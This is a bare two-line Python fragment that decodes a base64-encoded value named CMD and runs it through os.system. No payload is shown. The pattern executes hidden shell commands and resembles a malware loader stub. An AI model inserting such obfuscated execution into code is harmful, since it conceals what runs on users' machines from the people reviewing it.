import base64, os
os.system(base64.b64decode(CMD).decode())
